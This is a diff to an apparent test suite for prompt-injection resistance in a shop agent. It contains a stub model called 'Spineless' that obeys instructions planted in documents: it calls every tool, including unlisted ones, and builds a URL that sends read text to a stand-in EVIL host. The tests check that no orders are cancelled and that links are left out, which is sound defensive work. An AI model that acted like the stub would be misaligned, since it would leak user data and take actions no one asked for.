@@ -33,8 +33,9 @@ class Spineless:
 
     name, continues_prefix = "spineless", True
 
-    def __init__(self) -> None:
+    def __init__(self, *, calls: bool = True) -> None:
         self.read: list[str] = []
+        self._calls = calls
 
     def stream(
         self, messages: Any, *, usage: Usage, tools: Sequence[Any] = (), **_: Any
@@ -42,7 +43,7 @@ class Spineless:
         usage.prompt_tokens, usage.completion_tokens = 10, 5
         self.read = [message.content for message in messages]
         whole = "\n".join(self.read)
-        if tools and not any(message.role == "tool" for message in messages):
+        if self._calls and tools and not any(message.role == "tool" for message in messages):
             yield "Of course. "
             told = {"order_id": "1003", "url": self._carrying(whole)}
             for place, tool in enumerate((*(spec.name for spec in tools), *UNLISTED)):
@@ -62,14 +63,16 @@ class Spineless:
         return f"https://{EVIL}/?d={quote(read[-600:])}"
 
 
-def asks(server: RedisServer, shop: Shop, text: str, *, question: str, turn: str) -> Turn:
-    """Return what comes of a question where a document says ``text``."""
-    model = Spineless()
-    pod = ActingPod(f"pod-{turn}", server, shop, model=model)  # type: ignore[arg-type]
-    pod.knowledge.texts = {"en": text, "zh": text}
-    finished = pod.says(question, turn=turn)
-    assert model.read or finished.answer, turn
-    _held(pod, finished, text=text + question, turn=turn)
+def asks(server: RedisServer, shop: Shop, text: str, *, question: str, turn: str) -> list[Turn]:
+    """Return what comes of a question where a document says ``text``, of each kind of obeying."""
+    finished: list[Turn] = []
+    for calls in (True, False):
+        model, name = Spineless(calls=calls), f"{turn}-{calls}"
+        pod = ActingPod(f"pod-{name}", server, shop, model=model)  # type: ignore[arg-type]
+        pod.knowledge.texts = {"en": text, "zh": text}
+        finished.append(pod.says(question, turn=name))
+        assert model.read or finished[-1].answer, name
+        _held(pod, finished[-1], text=text + question, turn=name)
     return finished
 
 
@@ -153,8 +156,12 @@ ADAPTIVE: Final[Mapping[str, str]] = {
 def test_our_own_cases_move_nothing(server: RedisServer, case: str) -> None:
     shop = Shop()
     turn = f"a{list(ADAPTIVE).index(case)}"
-    asks(server, shop, ADAPTIVE[case], question="How long does shipping take?", turn=turn)
+    proposed, written = asks(
+        server, shop, ADAPTIVE[case], question="How long does shipping take?", turn=turn
+    )
     assert shop.cancelled == []
+    assert "Shall I?" in proposed.answer
+    assert "(link left out)" in written.answer
 
 
 def test_what_a_tool_answers_orders_nothing_either(server: RedisServer) -> None:
